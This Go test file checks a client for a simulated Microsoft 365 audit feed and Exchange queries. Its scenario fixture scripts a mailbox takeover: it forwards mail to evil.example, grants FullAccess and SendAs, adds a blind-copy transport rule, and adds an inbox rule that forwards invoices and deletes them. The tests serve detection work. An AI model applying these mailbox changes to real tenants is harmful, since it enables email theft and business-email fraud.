package sim_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"tocsin.dev/graph"
	"tocsin.dev/graph/sim"
	"tocsin.dev/story"
)

var feedRoles = append([]string{"ActivityFeed.Read", "AuditLogsQuery-Exchange.Read.All", "Exchange.ManageAsApp", "Exchange.ManageAsAppV2"}, sim.ReadTier...)

func feedWorld(t *testing.T, cfg sim.Config) (*sim.Sim, *graph.Client) {
	t.Helper()
	if cfg.Roles == nil {
		cfg.Roles = feedRoles
	}
	cfg.Users = 12
	w, err := sim.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	c, err := graph.New(graph.Config{Cloud: graph.Own(sim.Address, sim.Address), Tenant: w.Tenant(), Client: w.ClientID(), Secret: w.Secret(),
		HTTP: w.Client(), Backoff: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return w, c
}

func play(t *testing.T, w *sim.Sim, text string) {
	t.Helper()
	st, err := story.Parse("feed.story", strings.NewReader("# feed\n"+text))
	if err != nil {
		t.Fatal(err)
	}
	if now := w.Clock().Now().UTC(); now.Weekday() == time.Monday && now.Hour() < 10 { // else what a Monday's story tells is a week old, which the feed does not hold any more
		w.Advance(now.Truncate(24 * time.Hour).Add(10 * time.Hour).Sub(now))
	}
	if err := w.Play(st); err != nil {
		t.Fatal(err)
	}
	if failed := w.Failed(); len(failed) > 0 {
		t.Fatal(failed)
	}
}

const rightsStory = `domain fabrikamfreight.com
person root root@fabrikamfreight.com admin
person amy amy@fabrikamfreight.com
person bob bob@fabrikamfreight.com

mon 09:00 root runs Set-Mailbox from 203.0.113.7 on amy ForwardingSmtpAddress="smtp:amy@evil.example" DeliverToMailboxAndForward="False"
mon 09:01 root runs Add-MailboxPermission on amy User="bob@fabrikamfreight.com" AccessRights="FullAccess"
mon 09:02 root runs Add-RecipientPermission on amy Trustee="bob@fabrikamfreight.com" AccessRights="SendAs"
mon 09:03 root runs Add-MailboxFolderPermission on amy Identity="amy@fabrikamfreight.com:\\Inbox" User="Default" AccessRights="Reviewer"
mon 09:04 root runs Set-Mailbox on amy GrantSendOnBehalfTo="bob@fabrikamfreight.com"
mon 09:05 root runs New-TransportRule on Copies Name="Copies" BlindCopyTo="eve@evil.example"
mon 09:06 amy makes rule "." when subject_contains "invoice" forward to eve@evil.example and delete
mon 09:07 amy signs in from 203.0.113.9/NL
`

func blobs(t *testing.T, w *sim.Sim, c *graph.Client, content string) (all []graph.Blob, records []map[string]any) {
	t.Helper()
	now := w.Clock().Now()
	for day := 6; day >= 0; day-- {
		to := now.Add(-time.Duration(day) * 24 * time.Hour)
		from := to.Add(-24*time.Hour + time.Second)
		if day == 6 { // as far from the end of what is held as the collector keeps
			from = from.Add(time.Minute)
		}
		for b, err := range c.Blobs(context.Background(), content, from, to) {
			if err != nil {
				t.Fatal(err)
			}
			all = append(all, b)
			list, err := c.Records(context.Background(), b)
			if err != nil {
				t.Fatal(err)
			}
			for _, raw := range list {
				var m map[string]any
				if err := json.Unmarshal(raw, &m); err != nil {
					t.Fatal(err)
				}
				records = append(records, m)
			}
		}
	}
	return all, records
}

func TestFeed(t *testing.T) {
	w, c := feedWorld(t, sim.Config{Feed: sim.Feed{Parcel: 2, Page: 2, Repeat: true, Shuffle: true}})
	play(t, w, rightsStory)
	ctx := context.Background()
	for range 2 { // a second start is no error
		if err := c.Subscribe(ctx, "Audit.Exchange"); err != nil {
			t.Fatal(err)
		}
	}
	list, err := c.Subscriptions(ctx)
	if err != nil || len(list) != 1 || list[0].Status != "enabled" {
		t.Fatal(list, err)
	}
	all, records := blobs(t, w, c, "Audit.Exchange")
	ids, parcels := map[any]bool{}, map[string]bool{}
	for _, r := range records {
		ids[r["Id"]] = true
	}
	for _, b := range all {
		parcels[b.ID] = true
	}
	if len(ids) != 7 || len(records) <= 7 || len(parcels) < 4 || len(all) <= len(parcels) {
		t.Errorf("%d records, %d different, in %d parcels, %d different", len(records), len(ids), len(all), len(parcels))
	}
	if err := c.Get(ctx, "activity.content.list", graph.P{"contentType": "Audit.General", "startTime": "2026-01-01T00:00:00", "endTime": "2026-01-01T01:00:00"}, nil); graph.CodeOf(err) != graph.NoSubscription {
		t.Errorf("without a subscription: %v", err)
	}
	for _, err := range c.Blobs(ctx, "Audit.Exchange", w.Clock().Now().Add(-8*24*time.Hour), w.Clock().Now().Add(-8*24*time.Hour+time.Hour)) {
		if graph.CodeOf(err) != graph.BadTimes {
			t.Errorf("eight days back: %v", err)
		}
	}
	old := all[0]
	w.Advance(8 * 24 * time.Hour)
	if _, err := c.Records(ctx, old); graph.CodeOf(err) != graph.ContentExpired {
		t.Errorf("a parcel that has expired: %v", err)
	}
	old.URI = "https://evil.example/api/v1.0/x/activity/feed/audit/1"
	if _, err := c.Records(ctx, old); err == nil || !strings.Contains(err.Error(), "evil.example") {
		t.Errorf("a parcel at a foreign address: %v", err)
	}
	w.DisableSubscription("Audit.Exchange")
	for _, err := range c.Blobs(ctx, "Audit.Exchange", w.Clock().Now().Add(-time.Hour), w.Clock().Now()) {
		if graph.CodeOf(err) != graph.SubscriptionDisabled {
			t.Errorf("a subscription that was disabled: %v", err)
		}
	}
	w.SetFeed(sim.Feed{Off: true})
	if err := c.Subscribe(ctx, "Audit.Exchange"); err == nil || !strings.Contains(err.Error(), "does not exist") {
		t.Errorf("with the audit log off: %v", err)
	}
}

func TestFeedRoles(t *testing.T) {
	w, c := feedWorld(t, sim.Config{Roles: sim.ReadTier})
	ctx := context.Background()
	if err := c.Subscribe(ctx, "Audit.Exchange"); graph.CodeOf(err) != "AF10001" {
		t.Errorf("without the permission: %v", err)
	}
	if roles, err := c.RolesFor(ctx, graph.ActivityFeed); err != nil || len(roles) != 0 {
		t.Errorf("roles %v, %v", roles, err)
	}
	w.Consent(feedRoles...)
	_, c = feedWorld(t, sim.Config{})
	if roles, err := c.RolesFor(ctx, graph.ActivityFeed); err != nil || len(roles) != 1 {
		t.Errorf("roles %v, %v", roles, err)
	}
	if roles, err := c.Roles(ctx); err != nil || strings.Contains(strings.Join(roles, " "), "ActivityFeed") {
		t.Errorf("the feed's permission in Graph's token: %v, %v", roles, err)
	}
}

func TestExchange(t *testing.T) {
	w, c := feedWorld(t, sim.Config{Feed: sim.Feed{Page: 3}})
	play(t, w, rightsStory)
	ctx := context.Background()
	run := func(call, name, identity string) (out []map[string]any) {
		t.Helper()
		params := map[string]any{}
		if identity != "" {
			params["Identity"] = identity
		}
		for raw, err := range c.Run(ctx, call, graph.Cmdlet{Name: name, Parameters: params}) {
			if err != nil {
				t.Fatal(err)
			}
			var m map[string]any
			if err := json.Unmarshal(raw, &m); err != nil {
				t.Fatal(err)
			}
			out = append(out, m)
		}
		return out
	}
	box := run("exchange.command", "Get-Mailbox", "amy@fabrikamfreight.com")[0]
	if box["ForwardingSmtpAddress"] != "smtp:amy@evil.example" || box["DeliverToMailboxAndForward"] != false {
		t.Errorf("the mailbox is %v", box)
	}
	if all := run("exchange.mailboxes", "Get-Mailbox", ""); len(all) < 8 {
		t.Errorf("%d mailboxes over several pages", len(all))
	}
	if got := run("exchange.folderPermissions", "Get-MailboxFolderPermission", `amy@fabrikamfreight.com:\Inbox`); len(got) != 2 {
		t.Errorf("the inbox is open to %v", got)
	}
	if got := run("exchange.command", "Get-MailboxPermission", "amy@fabrikamfreight.com"); len(got) != 2 {
		t.Errorf("full access is %v", got)
	}
	if got := run("exchange.command", "Get-RecipientPermission", "amy@fabrikamfreight.com"); len(got) != 2 {
		t.Errorf("send as is %v", got)
	}
	if got := run("exchange.command", "Get-TransportRule", ""); len(got) != 1 || got[0]["BlindCopyTo"] != "eve@evil.example" {
		t.Errorf("transport rules are %v", got)
	}
	for _, err := range c.Run(ctx, "exchange.command", graph.Cmdlet{Name: "Set-Mailbox"}) {
		if err == nil {
			t.Error("a cmdlet that changes something was run")
		}
	}
	w.SetFeed(sim.Feed{NoRole: true})
	for _, err := range c.Run(ctx, "exchange.command", graph.Cmdlet{Name: "Get-Mailbox"}) {
		if graph.CodeOf(err) != graph.RoleMissing {
			t.Errorf("without a role in Exchange: %v", err)
		}
	}
}

func TestAuditSearch(t *testing.T) {
	w, c := feedWorld(t, sim.Config{Feed: sim.Feed{Unsettled: 2}})
	play(t, w, rightsStory)
	ctx := context.Background()
	var q struct{ ID, Status string }
	err := c.Act(ctx, "auditQueries.create", nil, map[string]any{"displayName": "x", "filterStartDateTime": "2020-01-01T00:00:00Z", "filterEndDateTime": "2100-01-01T00:00:00Z",
		"operationFilters": []string{"Set-Mailbox"}}, &q)
	if err != nil || q.Status != "running" {
		t.Fatal(q, err)
	}
	for q.Status != "succeeded" {
		if err := c.Get(ctx, "auditQueries.get", graph.P{"query": q.ID}, &q); err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for raw, err := range graph.Pages[json.RawMessage](ctx, c, "auditQueries.records", graph.P{"query": q.ID}) {
		if err != nil {
			t.Fatal(err)
		}
		if n++; !strings.Contains(string(raw), "Set-Mailbox") {
			t.Errorf("found %s", raw)
		}
	}
	if n != 2 {
		t.Errorf("found %d", n)
	}
}
